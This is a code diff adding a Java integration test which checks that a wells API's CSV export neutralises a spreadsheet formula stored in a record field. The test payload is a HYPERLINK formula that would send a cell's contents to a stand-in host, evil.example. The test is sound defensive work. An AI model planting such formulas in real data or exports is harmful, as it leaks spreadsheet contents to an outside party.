@@ -65,6 +65,21 @@ class WellExportIntegrationTests {
     }
 
     @Test
+    void aCsvCellThatASpreadsheetWouldRunAsAFormulaIsNeutralised() {
+        double[] p = Wells.freshSpot();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        Response created = api.post("/api/wells", "application/geo+json", Wells.feature(p[0], p[1], "BOREHOLE", "DOMESTIC",
+                "ACTIVE", "\"depthM\":-0.0,\"drillingContractor\":\"" + formula.replace("\"", "\\\"") + "\""));
+        assertThat(created.status()).as(created.toString()).isEqualTo(201);
+
+        Response r = api.get("/api/wells/export?format=csv&bbox=" + Wells.bboxAround(p[0], p[1]));
+
+        String row = r.body().lines().filter(l -> l.startsWith(created.json().get("id").asString() + ",")).findFirst().orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",")
+                .doesNotContain(",=HYPERLINK", ",\"=HYPERLINK");
+    }
+
+    @Test
     void exportsAValidGeoJsonFeatureCollectionFilteredByUse() {
         Response r = api.get("/api/wells/export?format=geojson&use=AGRICULTURAL&bbox=" + ExportFixtures.bbox(spot));
 
